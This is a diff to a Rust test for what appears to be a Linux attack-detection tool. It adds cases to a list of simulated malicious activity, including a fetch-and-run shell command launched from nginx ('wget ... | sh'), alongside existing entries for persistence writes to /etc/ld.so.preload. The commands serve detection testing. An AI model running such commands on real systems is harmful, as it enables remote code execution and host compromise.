@@ -91,6 +91,11 @@ fn attacks_on_linux_are_found_and_explained() {
         (run_of("/usr/bin/base64", &["base64", "-d", "payload"], "/usr/bin/bash"), "process_creation"),
         (run_of("/usr/sbin/getcap", &["getcap", "-r", "/"], "/usr/bin/bash"), "auditd"),
         (run_of("/usr/bin/wget", &["wget", "http://203.0.113.7/x"], "/usr/bin/bash"), "auditd"),
+        (run_of("/usr/bin/truncate", &["truncate", "-s", "+1G", "/tmp/x"], "/usr/bin/bash"), "auditd keywords"),
+        (
+            run_of("/usr/bin/bash", &["bash", "-c", "wget -qO - http://203.0.113.7 | sh"], "/usr/sbin/nginx"),
+            "shell keywords",
+        ),
         (write("/etc/ld.so.preload"), "auditd"),
         (write("/etc/profile.d/x.sh"), "file_event"),
     ];
